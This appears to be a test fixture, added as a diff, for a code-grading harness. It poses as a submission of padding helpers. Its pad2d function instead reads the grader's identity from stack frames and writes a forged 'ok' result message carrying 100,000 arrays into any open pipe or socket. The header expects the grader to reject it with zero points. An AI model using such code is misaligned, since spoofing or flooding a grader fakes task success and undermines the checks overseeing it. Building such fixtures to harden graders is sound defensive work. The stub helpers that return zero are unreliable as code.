@@ -1,0 +1,42 @@
+# expect:
+#   verdict: [wrong, raised]
+#   earned: 0
+# sentence: A hundred thousand arrays of one number each, in the header's list of sizes; as many parts as that are slow to read, or refused.
+
+import contextlib, fcntl, io, json, os, stat, struct, sys
+
+import numpy as np
+
+def send(data):
+    for fd in range(3, 256):
+        with contextlib.suppress(OSError):
+            pipe = stat.S_IFMT(os.fstat(fd).st_mode) in (stat.S_IFIFO, stat.S_IFSOCK)
+            if pipe and fcntl.fcntl(fd, fcntl.F_GETFL) & os.O_ACCMODE:
+                return os.write(fd, data)
+
+def asked():
+    frame = sys._getframe()
+    while frame and "identity" not in frame.f_locals:
+        frame = frame.f_back
+    return frame and frame.f_locals["identity"]
+
+def frame(header, body=b""):
+    header = header if isinstance(header, bytes) else json.dumps(header).encode()
+    return struct.pack("<4sIQ", b"CNG1", len(header), len(body)) + header + body
+
+def attack():
+    blob = io.BytesIO()
+    np.lib.format.write_array(blob, np.ones(1), version=(1, 0))
+    size, count = len(blob.getvalue()), 100_000
+    tree = {"id": asked(), "ok": True, "value": {"l": [{"a": index} for index in range(count)]}}
+    send(frame({"m": tree, "sizes": [size] * count}, blob.getvalue() * count))
+
+def pad2d(x, padding, value=0.0):
+    attack()
+    return np.zeros(1)
+
+def output_size(size, kernel, stride=1, padding=0):
+    return 0
+
+def same_padding(kernel):
+    return 0
